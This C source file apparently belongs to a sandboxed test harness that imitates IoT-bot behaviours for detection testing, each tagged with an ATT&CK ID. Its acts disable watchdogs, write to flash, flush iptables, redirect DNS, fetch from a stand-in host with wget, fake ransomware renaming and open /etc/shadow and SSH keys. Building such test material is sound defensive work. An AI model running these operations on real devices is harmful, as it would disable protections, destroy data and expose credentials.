/*
 * What a bot does to the device that it is on; -DACT= one of these. What they damage, they have made
 * themselves, or it is the guest's, which is thrown away.
 */
#include "act.h"
#include "guest.h"

#include <dirent.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>

extern char **environ;

/* The one that is to be killed: it goes by itself after some seconds. */
__attribute__((unused)) static void be_competitor(void)
{
    prctl(PR_SET_NAME, "telnetd");
    sleep(5);
    _exit(0);
}

/* Looks for a process by its name, one that it has started itself, and kills it (T1489). */
AN_ACT kills_competitor(void)
{
    char path[300], name[32];
    struct dirent *entry;
    DIR *processes;
    FILE *file;

    switch (fork()) {
    case -1:
        return;
    case 0:
        if (fork() == 0)
            be_competitor();
        _exit(0); /* it is nobody's child then */
    }
    wait(NULL);
    usleep(300 * 1000);
    processes = opendir("/proc");
    while (processes && (entry = readdir(processes)) != NULL) {
        if (entry->d_name[0] < '1' || entry->d_name[0] > '9')
            continue;
        snprintf(path, sizeof path, "/proc/%s/comm", entry->d_name);
        file = fopen(path, "r");
        if (!file)
            continue;
        if (fgets(name, sizeof name, file) && strcmp(name, "telnetd\n") == 0)
            kill(atoi(entry->d_name), SIGKILL);
        fclose(file);
    }
}

/* A device that hangs is not to restart: there is no such device in a guest (T1685). */
AN_ACT stops_watchdog(void)
{
    static const char *const devices[] = {"/dev/watchdog", "/dev/misc/watchdog"};
    int disable = 1, i, file;

    for (i = 0; i < 2; i++) {
        file = open(devices[i], O_RDWR);
        if (file >= 0) {
            ioctl(file, 0x80045704, &disable); /* WDIOC_SETOPTIONS, WDIOS_DISABLECARD */
            close(file);
        }
    }
}

/* Makes a program of what it carries, here the guest's own true(1), and executes it (T1105). */
AN_ACT drops_and_runs(void)
{
    char *arguments[] = {"/tmp/malassay-dropped", NULL};
    int to = open(arguments[0], O_WRONLY | O_CREAT | O_TRUNC, 0600);

    if (copy_true(to) < 0)
        return;
    close(to);
    chmod(arguments[0], 0755);
    execve(arguments[0], arguments, environ);
}

/* Gives everybody every right to what is in a folder, which it has made (T1222.002). */
AN_ACT opens_files_to_all(void)
{
    char path[64];
    int i;

    mkdir("/tmp/malassay-files", 0700);
    for (i = 0; i < 30; i++) {
        snprintf(path, sizeof path, "/tmp/malassay-files/%d", i);
        put(path, "text\n", O_TRUNC, 0600);
        chmod(path, 0777);
    }
}

/* Overwrites the beginning of the flash memory: a guest has none (T1561). */
AN_ACT writes_to_flash(void)
{
    static const char *const devices[] = {"/dev/mtd0", "/dev/mtd1", "/dev/mtdblock0"};
    int i, file;

    for (i = 0; i < 3; i++) {
        file = open(devices[i], O_RDWR);
        if (file >= 0) {
            if (write(file, "malassay", 8) < 0)
                perror(devices[i]);
            close(file);
        }
    }
}

/* Makes files unreadable and gives them other names: some that it has made (T1486). */
AN_ACT encrypts_files(void)
{
    char from[64], to[80], text[] = "what somebody has written\n";
    size_t k;
    int i;

    mkdir("/tmp/malassay-documents", 0700);
    for (i = 0; i < 30; i++) {
        snprintf(from, sizeof from, "/tmp/malassay-documents/%d.txt", i);
        put(from, text, O_TRUNC, 0600);
    }
    for (k = 0; k < sizeof text - 1; k++)
        text[k] ^= 0x55;
    for (i = 0; i < 30; i++) {
        snprintf(from, sizeof from, "/tmp/malassay-documents/%d.txt", i);
        snprintf(to, sizeof to, "%s.locked", from);
        put(from, text, O_TRUNC, 0600);
        rename(from, to);
    }
}

/* Removes files that are no temporary ones: some that it has made (T1485). */
AN_ACT removes_files(void)
{
    char path[64];
    int i;

    mkdir("/root/malassay-files", 0700);
    for (i = 0; i < 60; i++) {
        snprintf(path, sizeof path, "/root/malassay-files/%d", i);
        put(path, "text\n", O_TRUNC, 0600);
        unlink(path);
    }
    rmdir("/root/malassay-files");
}

/* Asks the kernel to load a module that is none (T1547.006). */
AN_ACT loads_module(void)
{
    static const char none[64] = "no module";

    syscall(SYS_init_module, none, sizeof none, "");
}

/* Opens the firewall by its program, which guests lack, and asks for the kernel's side of it (T1686). */
AN_ACT changes_firewall(void)
{
    static const char *const programs[] = {"/sbin/iptables", "/usr/sbin/iptables", "/usr/sbin/nft"};
    char *arguments[] = {"iptables", "-F", NULL};
    int i;

    socket(AF_NETLINK, SOCK_RAW, 12); /* NETLINK_NETFILTER */
    for (i = 0; i < 3; i++)
        execve(programs[i], arguments, environ);
}

/* Names shall be asked of another server (T1584.002). */
AN_ACT changes_name_server(void)
{
    put("/etc/resolv.conf", "nameserver 192.0.2.53\n", O_TRUNC, 0644);
    put("/etc/hosts", "192.0.2.7 update.example\n", O_APPEND, 0644);
}

/* What goes through such a ring are no system calls. Nothing does. */
AN_ACT opens_io_uring(void)
{
    char parameters[120] = {0};

    syscall(425, 8, parameters); /* io_uring_setup, newer than some headers */
}

/* Has a program of the guest fetch something and throw it away (T1105). */
AN_ACT fetches_by_wget(void)
{
    in_shell("wget -q -O /dev/null http://192.0.2.7/malassay || :");
}

/* Has dd(1) write one byte, into a file of its own, as it would write over a disk (T1485). */
AN_ACT overwrites_by_dd(void)
{
    in_shell("dd if=/dev/zero of=/tmp/malassay-zero bs=1 count=1 2>/dev/null || :");
}

/* Has a program of the guest end what does not run (T1489). */
AN_ACT stops_service(void)
{
    in_shell("killall malassay-absent || :");
}

/* Opens a file as whoever reads it does, and reads nothing. */
__attribute__((unused)) static void open_to_read(const char *path)
{
    int file = open(path, O_RDONLY);

    if (file >= 0)
        close(file);
}

/* The list of passwords, the guest's (T1003.008). */
AN_ACT opens_passwords(void)
{
    open_to_read("/etc/shadow");
}

/* A key that nobody has, and the memory of a shell (T1552.003, T1552.004). */
AN_ACT opens_keys(void)
{
    open_to_read("/root/.ssh/id_malassay");
    open_to_read("/root/.bash_history");
}

int main(void)
{
    only_in_a_guest();
    ACT();
    return 0;
}
